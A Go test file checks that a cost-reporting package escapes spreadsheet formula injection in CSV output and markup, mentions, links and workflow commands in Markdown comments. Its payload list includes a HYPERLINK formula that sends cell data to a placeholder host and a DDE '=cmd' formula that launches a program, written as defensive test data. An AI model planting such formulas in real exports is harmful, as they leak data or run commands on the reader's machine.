package reports_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"berth.dev/engine/ledger"
	"berth.dev/engine/month"
	"berth.dev/engine/month/monthtest"
	"berth.dev/reports"
)

// inFormat is a month in a format.
func inFormat(t *testing.T, format, by string, r *month.Report) string {
	t.Helper()
	var b bytes.Buffer
	if err := reports.WriteMonth(&b, reports.Options{Format: format, By: by}, reports.NewMonth(r)); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// spread is what a spreadsheet made of a CSV file.
type spread struct {
	Formulas []string          `json:"formulas"`
	Numbers  map[string]string `json:"numbers"`
}

// formulas are names that a spreadsheet would run.
func formulas() []string {
	return []string{"=1+1", `=HYPERLINK("http://a.example?"&A1)`, "=cmd|' /C calc'!A0", "\t=1", "\r=1", "a\n=1", "a,=1", `a",=1`, "a;=1", "+1", "-1", "@SUM(A1)", "＝1"}
}

func TestASpreadsheetRunsWhatIsNotGuarded(t *testing.T) {
	got := read[spread](t, "spreadsheet", saved(t, "a.csv", "name,amount\n=1+1,-5.25\n"))
	if diff := cmp.Diff(spread{[]string{"A2 1+1"}, map[string]string{"B2": "-5.25"}}, got); diff != "" {
		t.Error(diff)
	}
}

func TestASpreadsheetRunsNoNameOfAMonthAndReadsItsNumbers(t *testing.T) {
	r := reports.MonthReports()["whole"]
	line := r.Lines[0]
	for _, f := range formulas() {
		line.Team, line.Product, line.Service, line.Site, line.Part = f, f, f, f, f
		r.Lines = append(r.Lines, line)
		for axis := range r.Axes {
			sum := r.Axes[axis][0]
			sum.Name = f
			r.Axes[axis] = append(r.Axes[axis], sum)
		}
	}
	for by, columns := range map[string]string{"": "JL", string(ledger.Team): "DEF", string(ledger.Service): "DEF"} {
		content := inFormat(t, reports.CSV, by, r)
		got := read[spread](t, "spreadsheet", saved(t, "month.csv", content))
		if len(got.Formulas) > 0 {
			t.Errorf("by %q: a spreadsheet runs %q", by, got.Formulas)
		}
		rows, err := csv.NewReader(strings.NewReader(content)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows[1:] {
			for _, column := range columns {
				place := fmt.Sprintf("%c%d", column, i+2)
				if diff := cmp.Diff(row[column-'A'], got.Numbers[place]); diff != "" {
					t.Errorf("by %q, %s: %s", by, place, diff)
				}
			}
		}
	}
}

// ofMonths are the elements of a month's comment.
var ofMonths = regexp.MustCompile(`^(<!-- berth:report(-diff)? -->|</?(h3|h4|p|details|summary|table|thead|tbody|tr|td|th|strong|ul|li|pre|code)( align="right"| class="language-(text|hcl)")?>|<br>)$`)

func TestAMonthsCommentQuotesWithoutMarkupLinksOrCalls(t *testing.T) {
	names := append(reports.Attacks(), "@ann #12 !7 https://a.example www.a.example", "/close", "\n/close", "```\n<b>", "| a | b |", "- [ ] a", "::error::x")
	pages := map[string]string{}
	for i := 0; i < len(names); i += 24 {
		r := monthtest.Make(monthtest.Options{Services: 2, Months: 2, Name: strings.Join(names[i:min(i+24, len(names))], " ")})
		r.Nobody[0].Advice = names[i]
		pages[fmt.Sprint("names ", i)] = inFormat(t, reports.Markdown, "", r)
	}
	for name, r := range reports.MonthReports() {
		pages[name] = inFormat(t, reports.Markdown, "service", r)
	}
	for name, c := range reports.MonthChanges() {
		var b bytes.Buffer
		if err := reports.WriteMonthDiff(&b, reports.Options{Format: reports.Markdown}, reports.NewMonthDiff(c)); err != nil {
			t.Fatal(err)
		}
		pages["diff "+name] = b.String()
	}
	code := regexp.MustCompile(`(?s)<code.*?</code>`)
	for name, markdown := range pages {
		page := read[string](t, "markdown", saved(t, "month.md", markdown))
		for _, tag := range tags.FindAllString(page, -1) {
			if !ofMonths.MatchString(tag) {
				t.Errorf("%s: %s is in the comment's page", name, tag)
			}
		}
		for _, call := range regexp.MustCompile(`@\w+|#\d+|https?://|www\.`).FindAllString(code.ReplaceAllString(page, ""), -1) {
			t.Errorf("%s: %s is in the comment's page", name, call)
		}
	}
}
